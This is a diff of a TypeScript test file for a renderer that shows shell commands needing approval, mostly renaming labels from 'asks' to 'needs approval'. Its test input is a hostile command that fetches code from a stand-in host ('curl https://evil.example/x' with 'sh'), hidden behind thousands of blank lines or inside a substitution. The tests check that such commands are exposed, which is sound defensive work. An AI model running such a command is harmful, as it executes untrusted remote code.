@@ -1,19 +1,19 @@
 import { describe, expect, test } from 'vitest';
 import {
   type ApprovalRequest,
-  CARD_MAX_CHARACTERS,
+  COMMENT_MAX_CHARACTERS,
   type ApprovalCommentView,
   renderApprovalComment,
-} from '../../src/approvals/index.ts';
-import { exact } from '../../src/approvals/request/markdown.ts';
+} from '../../../src/approvals/index.ts';
+import { exact } from '../../../src/approvals/request/markdown.ts';
 import {
   terminalRequest,
   terminalExplanation,
-} from '../../src/approvals/terminal/terminal-card.ts';
-import { evaluate } from '../../src/policy/index.ts';
-import { policy, situation } from '../policy/helpers.ts';
-import * as fc from '../properties.ts';
-import { requestOf } from './context.ts';
+} from '../../../src/approvals/terminal/terminal-request.ts';
+import { evaluate } from '../../../src/policy/index.ts';
+import { policy, situation } from '../../policy/helpers.ts';
+import * as fc from '../../properties.ts';
+import { requestOf } from '../context.ts';
 
 const RULES = policy(
   'version: 1\nauto: [bash_run(true), bash_run(echo *)]\nrequireApproval: [bash_run]\n',
@@ -31,7 +31,7 @@ function asked(command: string, call = 'c1'): ApprovalRequest {
   return requestOf({ call, command, verdict, narrowestRule: null });
 }
 
-function card(...requests: readonly ApprovalRequest[]): string {
+function comment(...requests: readonly ApprovalRequest[]): string {
   const view: ApprovalCommentView = {
     marker: {
       v: 1,
@@ -67,61 +67,67 @@ describe('a command with something at an unexpected place', () => {
     ['behind empty lines', `echo a\n${'\n'.repeat(32_000)}${EVIL}`],
     ['in a substitution', `echo ${'a'.repeat(16_000)} $(${EVIL}) ${'b'.repeat(16_000)}`],
   ])('%s, it is listed', (_, command) => {
-    const shown = card(asked(command), asked(command, 'c2'), asked(command, 'c3'));
-    expect(shown.length).toBeLessThanOrEqual(CARD_MAX_CHARACTERS);
-    expect(shown).toContain('`curl https://evil.example/x` asks: ');
-    expect(shown).toContain('`sh` asks: ');
+    const shown = comment(asked(command), asked(command, 'c2'), asked(command, 'c3'));
+    expect(shown.length).toBeLessThanOrEqual(COMMENT_MAX_CHARACTERS);
+    expect(shown).toContain('`curl https://evil.example/x` needs approval: ');
+    expect(shown).toContain('`sh` needs approval: ');
     const terminal = terminalRequest(asked(command));
-    expect(terminal).toContain('asks: curl https://evil.example/x\n');
+    expect(terminal).toContain('needs approval: curl https://evil.example/x\n');
     expect(terminal).toContain(EVIL);
   });
 
-  test('what asks is listed before what runs by itself, and what is the same is listed once', () => {
-    const shown = card(asked(`true; echo a; true; ${EVIL}; true`));
-    const places = ['`curl ', '`sh` asks', '`true` (3 times) runs by itself', '`echo a` runs'];
+  test('gated commands are listed first, and equal commands once', () => {
+    const shown = comment(asked(`true; echo a; true; ${EVIL}; true`));
+    const places = ['`curl ', '`sh` needs approval', '`true` (3 times) runs automatically', '`echo a` runs'];
     const found = places.map((words) => shown.indexOf(words));
     expect(found).not.toContain(-1);
     expect(found.indexOf(Math.max(...found.slice(0, 2)))).toBeLessThan(2);
     expect(Math.max(...found.slice(0, 2))).toBeLessThan(Math.min(...found.slice(2)));
   });
 
-  test('where not all are listed, the top of the request and of the call says how many', () => {
+  test('if not all are listed, the comment and the call say how many are missing', () => {
     const commands = Array.from({ length: 500 }, (_, index) => `rm file-${index}`).join('; ');
-    const shown = card(asked(commands));
+    const shown = comment(asked(commands));
     const [top = '', section = ''] = shown.split('#### ', 2);
-    expect(top).toContain('One call is not shown whole.');
+    expect(top).toContain('One call is not shown in full.');
     expect(section.split('```')[0]).toMatch(
-      /Not all of this call is shown here\*\*: (?:\d+ characters in its middle, and )?\d+ commands that ask/,
+      /This call is not shown in full\.\*\* Missing: (?:\d+ characters in its middle, and )?\d+ commands that need approval/,
     );
-    expect(shown).toMatch(/not listed here: \d+ commands that ask/);
+    expect(shown).toMatch(/not listed here: \d+ commands that need approval/);
     expect(listedAndCounted(shown)).toBe(500);
-    expect(terminalRequest(asked(commands))).toContain('! not listed: 480 commands that ask');
-    expect(terminalExplanation(asked(commands))).toContain('not listed: 400 commands that ask');
+    expect(terminalRequest(asked(commands))).toContain(
+      '! not listed: 480 commands that need approval',
+    );
+    expect(terminalExplanation(asked(commands))).toContain(
+      'not listed: 400 commands that need approval',
+    );
   });
 
-  test('of a command that cannot be parsed it is said that nobody knows what it runs', () => {
+  test('a command that cannot be parsed says that its commands are unknown', () => {
     for (const command of ['echo "', `echo ${'a'.repeat(100_000)}; ${EVIL}`]) {
-      const shown = card(asked(command));
-      expect(shown.split('```')[0]).toContain('which commands it runs, for it could not be parsed');
+      const shown = comment(asked(command));
+      expect(shown.split('```')[0]).toContain(
+        'which commands it runs, because it could not be parsed',
+      );
       expect(terminalRequest(asked(command))).toContain('! It could not be parsed');
     }
-    expect(card(asked(`echo ${'a'.repeat(100_000)}; ${EVIL}`))).toContain(`; ${EVIL}\n`);
+    expect(comment(asked(`echo ${'a'.repeat(100_000)}; ${EVIL}`))).toContain(`; ${EVIL}\n`);
   });
 
   test('a command of many words shows its first and its last', () => {
     const words = Array.from({ length: 900 }, (_, index) => `w${index}`).join(' ');
-    const shown = card(asked(`rm ${words}; true`));
-    expect(shown).toContain('w899` asks');
+    const shown = comment(asked(`rm ${words}; true`));
+    expect(shown).toContain('w899` needs approval');
     expect(shown).toContain('[… 841 words …]');
   });
 
-  test('words that would not be told apart are quoted', () => {
-    expect(card(asked(`rm 'a b' "" c; true`))).toContain("`rm 'a b' '' c` asks");
+  test('ambiguous words are quoted', () => {
+    expect(comment(asked(`rm 'a b' "" c; true`))).toContain("`rm 'a b' '' c` needs approval");
   });
 
-  test('a line that is wide by its tabs, and a command of many lines, are pointed at', () => {
-    expect(card(asked(`echo a${'\t'.repeat(60)}; rm b`))).toContain('scroll to its end');
-    expect(card(asked(`echo a${'\n'.repeat(60)}rm b`))).toContain('It has 61 lines.');
+  test('a line that is wide by its tabs, and a command of many lines, get a warning', () => {
+    expect(comment(asked(`echo a${'\t'.repeat(60)}; rm b`))).toContain('scroll to its end');
+    expect(comment(asked(`echo a${'\n'.repeat(60)}rm b`))).toContain('It has 61 lines.');
   });
 });
 
@@ -171,8 +177,8 @@ describe('whatever the command is', () => {
     fc.assert(
       fc.property(HOSTILE, (command) => {
         const request = asked(command);
-        const shown = card(request);
-        expect(shown.length).toBeLessThanOrEqual(CARD_MAX_CHARACTERS);
+        const shown = comment(request);
+        expect(shown.length).toBeLessThanOrEqual(COMMENT_MAX_CHARACTERS);
         expectEnds(shown, command);
         const { commands = [], commandsLeftOut } = request.verdict;
         const asking = commands.filter(({ verdict }) => verdict !== 'auto').length;
@@ -188,8 +194,8 @@ describe('whatever the command is', () => {
   test('so it is with as many calls as one request holds', () => {
     fc.assert(
       fc.property(fc.array(HOSTILE, { minLength: 40, maxLength: 40 }), (commands) => {
-        const shown = card(...commands.map((command, index) => asked(command, `c${index}`)));
-        expect(shown.length).toBeLessThanOrEqual(CARD_MAX_CHARACTERS);
+        const shown = comment(...commands.map((command, index) => asked(command, `c${index}`)));
+        expect(shown.length).toBeLessThanOrEqual(COMMENT_MAX_CHARACTERS);
         for (const command of commands) expectEnds(shown, command);
       }),
       { numRuns: 3 },
@@ -212,13 +218,13 @@ describe('whatever the command is', () => {
           verdict: { ...made.verdict, because, reason: because },
         };
       });
-      const shown = card(...requests);
-      expect(shown.length).toBeLessThanOrEqual(CARD_MAX_CHARACTERS);
+      const shown = comment(...requests);
+      expect(shown.length).toBeLessThanOrEqual(COMMENT_MAX_CHARACTERS);
       for (const index of commands.keys()) {
         expect(shown).toContain(`begin${index} `);
         expect(shown).toContain(` end${index}\n`);
       }
-      expect(shown).toContain('40 calls are not shown whole.');
+      expect(shown).toContain('40 calls are not shown in full.');
     },
   );
 });
@@ -232,13 +238,13 @@ function expectEnds(shown: string, command: string): void {
   expect(ends(whole) || ends(tight), JSON.stringify(command.slice(0, 100))).toBe(true);
 }
 
-/** How many commands that ask are listed, each as often as it is there, and how many are said to be left out. */
+/** How many commands that need approval are listed, each as often as it is there, and how many are said to be left out. */
 function listedAndCounted(shown: string): number {
   let sum = 0;
   for (const line of shown.split('\n')) {
     if (!line.startsWith('  - ')) continue;
-    const left = /^ {2}- ❗ not listed here: (\d+) commands? that asks?/.exec(line);
-    const listed = /^ {2}- .*?(?: \((\d+) times\))? asks: [`–]/.exec(line);
+    const left = /^ {2}- ❗ not listed here: (\d+) commands? that needs? approval/.exec(line);
+    const listed = /^ {2}- .*?(?: \((\d+) times\))? needs approval: [`–]/.exec(line);
     if (left !== null) sum += Number(left[1]);
     else if (listed !== null) sum += Number(listed[1] ?? 1);
   }
